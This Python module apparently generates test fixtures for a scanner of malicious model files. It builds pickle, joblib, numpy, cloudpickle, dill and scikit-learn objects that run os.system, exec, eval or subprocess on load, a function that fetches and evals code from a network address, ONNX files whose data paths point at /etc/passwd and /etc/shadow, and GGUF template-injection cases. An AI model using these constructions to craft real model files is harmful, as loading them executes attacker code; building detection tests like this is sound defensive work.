"""Malicious files that real libraries write: joblib, numpy, pandas, dill, cloudpickle, scikit-learn, gguf, onnx.

A class says by `__reduce__` what its pickle shall name; writing it calls nothing, and nothing here reads one.
Never here: what no library writes (`calls.py` and the rest). To add one: a row in a function that `cases` joins.
"""

import builtins
import importlib
import io
import os
import pickle
import subprocess

import cloudpickle
import dill
import joblib
import numpy as np
import onnx
import pandas as pd
from onnx import TensorProto, helper, numpy_helper
from sklearn.compose import ColumnTransformer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

from scan.case import ADDRESS, CODE, COMMAND, MARKER, Case
from scan.formats import TEMPLATES
from scan.good_plain import saved
from scan.good_shapes import gguf_bytes


class Runs:
    """Its pickle is a call of this function with these arguments."""

    def __init__(self, function, *arguments) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def cases(_seed: int) -> list[Case]:
    return [*by_pickle(), *by_joblib(), *by_numpy(), *by_value(), *estimators(), *others()]


def by_pickle() -> list[Case]:
    rows = {
        "os-system": Runs(os.system, COMMAND),
        "exec": Runs(exec, CODE),
        "eval": Runs(eval, CODE),
        "popen": Runs(subprocess.Popen, ["touch", MARKER]),
        "check-call": Runs(subprocess.check_call, ["touch", MARKER]),
        "import-module": Runs(importlib.import_module, "stage_two"),
        "open": Runs(open, MARKER, "w"),
        "import": Runs(builtins.__import__, "stage_two"),
    }
    made = []
    for name, one in rows.items():
        for version in range(6):
            value = {"weights": [0.5, 0.25], "hook": one} if version % 2 else one
            made.append(Case("by pickle itself", f"{name}-{version}.pkl", pickle.dumps(value, version)))
    return made


def by_joblib() -> list[Case]:
    evil = Runs(os.system, COMMAND)
    values = {
        "alone": evil,
        "after-an-array": [np.arange(2000.0), evil],
        "between-arrays": {"a": np.ones((30, 30)), "b": evil, "c": np.zeros(500)},
        "in-an-array": np.array([evil, 1], dtype=object),
    }
    made = []
    for name, value in values.items():
        for packing in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
            out = io.BytesIO()
            joblib.dump(value, out, compress=packing)
            word = packing[0] if packing else "raw"
            made.append(Case("joblib", f"{name}-{word}.joblib", out.getvalue(), "not clean" if word in ("bz2", "xz", "lzma") else "flagged"))
    return made


def by_numpy() -> list[Case]:
    evil = np.array([Runs(os.system, COMMAND)], dtype=object)
    frame = pd.DataFrame({"a": [1.0], "b": [Runs(exec, CODE)]})
    record = np.array([(1, Runs(eval, CODE))], dtype=[("a", "i4"), ("b", object)])
    rows = {
        "saved.npy": saved(np.save, evil, allow_pickle=True),
        "saved-record.npy": saved(np.save, record, allow_pickle=True),
        "saved.npz": saved(np.savez, a=np.ones(3), b=evil),
        "saved-compressed.npz": saved(np.savez_compressed, a=np.ones(3), b=evil),
        "pickled.pkl": pickle.dumps(evil, 4),
        "pickled-out-of-order.pkl": pickle.dumps({"w": np.ones(50), "x": evil, "v": np.zeros(3)}, 2),
        "frame.pkl": pickle.dumps(frame, 5),
        "series.pkl": pickle.dumps(frame["b"], 4),
    }
    return [Case("numpy and pandas", key, raw) for key, raw in rows.items()]


def by_value() -> list[Case]:
    """Functions and classes whose code goes along."""
    def run(x):
        import os

        os.system(COMMAND)
        return x

    def fetch(x):
        from urllib.request import urlopen

        return eval(urlopen(ADDRESS).read())

    class Model:
        def __setstate__(self, state):
            __import__("subprocess").run(["touch", MARKER])

    closed = (lambda command: lambda x: os.system(command))(COMMAND)
    default = lambda x, f=os.system: f(x)  # noqa: E731  a lambda is what it is about
    rows = {"function": run, "download": fetch, "object": Model(), "closure": closed, "default-argument": default}
    made = []
    for name, value in rows.items():
        made.append(Case("code by value", f"{name}.cloudpickle", cloudpickle.dumps(value)))
        made.append(Case("code by value", f"{name}.dill", dill.dumps(value, recurse=True)))
        made.append(Case("code by value", f"{name}-in-a-dictionary.pkl", cloudpickle.dumps({"w": [1.0], "post": value}, protocol=4)))
    out = io.BytesIO()
    joblib.dump({"model": LogisticRegression(), "post": Runs(cloudpickle.loads, cloudpickle.dumps(run))}, out)
    made.append(Case("code by value", "wrapped.joblib", out.getvalue()))
    return made


def estimators() -> list[Case]:
    """Real estimators with a parameter that is no parameter of a model."""
    rows = {
        "transformer-of-system": FunctionTransformer(func=os.system),
        "transformer-of-exec": FunctionTransformer(func=exec),
        "step-in-a-pipeline": Pipeline([("scale", StandardScaler()), ("run", FunctionTransformer(func=subprocess.getoutput))]),
        "column-chosen-by-eval": ColumnTransformer([("a", StandardScaler(), eval)]),
        "attribute": hooked(LogisticRegression().fit([[0.0], [1.0]], [0, 1])),
        "class-weight": LogisticRegression(class_weight=Runs(os.system, COMMAND)),
    }
    made = []
    for name, value in rows.items():
        out = io.BytesIO()
        joblib.dump(value, out)
        made.append(Case("estimator that runs", f"{name}.joblib", out.getvalue()))
        made.append(Case("estimator that runs", f"{name}.pkl", pickle.dumps(value, 4)))
    return made


def hooked(model):
    model.classes_hook_ = Runs(os.popen, COMMAND)
    return model


def others() -> list[Case]:
    made = []
    for name in ("subclasses", "globals-of-cycler", "attr-joined", "endless"):
        raw = gguf_bytes("llama", lambda writer, name=name: writer.add_chat_template(TEMPLATES[name]))
        made.append(Case("gguf template", f"by-gguf-{name}.gguf", raw))
    raw = gguf_bytes("llama", lambda writer: writer.add_chat_template([{"name": "default", "template": "{{ x }}"}, {"name": "rag", "template": TEMPLATES["subscript"]}]))
    made.append(Case("gguf template", "by-gguf-named.gguf", raw))
    weight = numpy_helper.from_array(np.ones((4, 4), "f4"), "w")
    ends = [helper.make_tensor_value_info(name, TensorProto.FLOAT, ["n", 4]) for name in ("x", "y")]
    for name, location in {"up": "../../../../etc/passwd", "absolute": "/etc/shadow", "middle": "a/../../b"}.items():
        graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g", ends[:1], ends[1:], [weight])
        model = helper.make_model(graph)
        onnx.external_data_helper.set_external_data(model.graph.initializer[0], location)
        model.graph.initializer[0].ClearField("raw_data")
        made.append(Case("onnx data outside", f"by-onnx-{name}.onnx", model.SerializeToString()))
    strange = helper.make_graph([helper.make_node("Run", ["x"], ["y"], domain="com.example.shell")], "g", ends[:1], ends[1:])
    model = helper.make_model(strange, opset_imports=[helper.make_opsetid("", 21), helper.make_opsetid("com.example.shell", 1)])
    made.append(Case("onnx custom operator", "by-onnx.onnx", model.SerializeToString()))
    return made
